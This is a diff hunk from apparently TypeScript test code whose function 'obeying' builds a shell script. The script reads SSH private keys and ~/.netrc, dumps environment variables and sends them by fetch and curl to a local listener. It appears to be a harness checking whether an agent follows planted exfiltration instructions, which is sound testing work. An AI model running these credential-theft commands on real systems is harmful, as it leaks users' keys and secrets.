@@ -17,7 +17,7 @@ function obeying(port: number, origin: string): string {
   const node = `'${process.execPath}'`;
   return `
 env
-cat ~/.ssh/id_rsa ~/.netrc /root/.ssh/id_rsa
+cat ~/.ssh/id_rsa ~/.netrc ~root/.ssh/id_rsa
 env | ${node} -e "let t='';process.stdin.on('data',(d)=>t+=d).on('end',()=>fetch('http://127.0.0.1:${port}/',{method:'POST',body:t}).catch(()=>0))"
 curl -s -m 5 "http://127.0.0.1:${port}/$(env | head -c 100 | tr -dc a-z)"
 [ -n "$HTTPS_PROXY" ] && curl -s -m 5 -p -x "$HTTPS_PROXY" "http://127.0.0.1:${port}/"
